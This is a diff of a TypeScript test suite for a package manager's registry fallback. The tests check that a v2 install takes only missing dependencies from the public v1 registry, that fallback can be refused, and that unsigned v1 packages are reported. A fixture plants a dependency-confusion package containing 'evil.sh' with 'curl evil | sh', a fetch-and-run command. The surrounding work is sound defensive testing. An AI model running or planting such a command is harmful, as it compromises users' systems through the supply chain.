@@ -240,22 +240,40 @@ describe('files are written exclusively, and secrets and trust only where nobody
 });
 
 describe('fallback to v1 is visible, refusable and never dependency confusion (findings 10, 11)', () => {
-  it("does not serve a v2 package's missing dependency, or the whole install, from the v1 registry", async () => {
+  it("takes only the names v2 lacks from v1: never the package v2 has, refused when fallback is off or signatures are required", async () => {
     const home = freshHome();
     const v2 = copyOfSampleRegistry();
     const pack = writePack(join(home, 'app'), 'private-app', '1.0.0');
     writeFileSync(join(pack, 'gpack.yaml'), `${readFileSync(join(pack, 'gpack.yaml'), 'utf8')}dependencies:\n  internal-utils: ^1.0.0\n`);
-    expect((await runGgen(['marketplace', 'publish', pack, '--registry', v2], { home })).code).toBe(0);
-    // The public v1 registry has both names, published by someone else.
+    const key = JSON.parse((await runGgen(['marketplace', 'keygen', '--no-password', '--output', join(home, 'team.key'), '--json'], { home })).stdout) as { publicKey: string };
+    expect((await runGgen(['marketplace', 'publish', pack, '--registry', v2, '--sign', '--key', join(home, 'team.key')], { home })).code).toBe(0);
+    // The public v1 registry has both names; its private-app is someone else's.
     const v1 = writeV1Registry([
-      { name: 'private-app', archive: buildTgz([manifest('private-app')]), dependencies: { 'internal-utils': '*' } },
-      { name: 'internal-utils', archive: buildTgz([manifest('internal-utils'), { path: 'evil.sh', content: 'curl evil | sh' }]) },
+      { name: 'private-app', archive: buildTgz([manifest('private-app'), { path: 'evil.sh', content: 'curl evil | sh' }]), dependencies: { 'internal-utils': '*' } },
+      { name: 'internal-utils', archive: buildTgz([manifest('internal-utils')]) },
     ]);
     const env = { GGEN_MARKETPLACE_REGISTRY: v1, GGEN_MARKETPLACE_V2_REGISTRY: v2 };
-    const run = await runGgen(['marketplace', 'install', 'private-app'], { home, env });
-    expect(run.stderr).toMatch(/^error GGEN_E_PACKAGE_NOT_FOUND: Package 'internal-utils', a dependency of private-app@1\.0\.0, is not in the registry$/m);
-    expect(run.code).toBe(4);
-    expect(existsSync(join(home, '.ggen', 'packages', 'internal-utils'))).toBe(false);
+    const run = await runGgen(['marketplace', 'install', 'private-app', '--target', join(home, 'a')], { home, env });
+    expect(run.code).toBe(0);
+    expect(run.stdout).toMatch(/^\+\s+internal-utils\s+1\.0\.0\s+v1$/m);
+    expect(run.stdout).toMatch(/^\+\s+private-app\s+1\.0\.0\s+v2$/m);
+    expect(existsSync(join(home, 'a', 'private-app', 'evil.sh'))).toBe(false);
+    const lock = JSON.parse(readFileSync(join(home, 'ggen.lock'), 'utf8')) as { packages: Record<string, { backend: string }> };
+    expect(Object.fromEntries(Object.entries(lock.packages).map(([name, entry]) => [name, entry.backend]))).toEqual({ 'internal-utils': 'v1', 'private-app': 'v2' });
+
+    // Refusable: with fallback off for installs, the dependency v2 lacks is not found, and nothing comes from v1.
+    mkdirSync(join(home, '.config', 'ggen'), { recursive: true });
+    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), 'marketplace:\n  operations:\n    install: { fallback_on_error: false }\n');
+    const refused = await runGgen(['marketplace', 'install', 'private-app', '--target', join(home, 'b')], { home, env });
+    expect(refused.stderr).toMatch(/^error GGEN_E_PACKAGE_NOT_FOUND: Package 'internal-utils', a dependency of private-app@1\.0\.0, is not in the registry$/m);
+    expect(refused.code).toBe(4);
+    expect(existsSync(join(home, 'b', 'internal-utils'))).toBe(false);
+
+    // Under require_signatures the v1 dependency is reported as unsigned.
+    writeFileSync(join(home, '.config', 'ggen', 'config.yaml'), 'marketplace:\n  require_signatures: true\n');
+    const unsigned = await runGgen(['marketplace', 'install', 'private-app', '--target', join(home, 'c')], { home, env: { ...env, GGEN_MARKETPLACE_TRUSTED_KEYS: key.publicKey } });
+    expect(unsigned.stderr).toMatch(/^error GGEN_E_SIGNATURE_MISSING: internal-utils@1\.0\.0 comes from the v1 registry, which holds no signatures \(it is a dependency that the v2 registry does not have\)$/m);
+    expect(unsigned.code).toBe(6);
   });
 
   it('says when an install falls back, and honours fallback_on_error per operation', async () => {
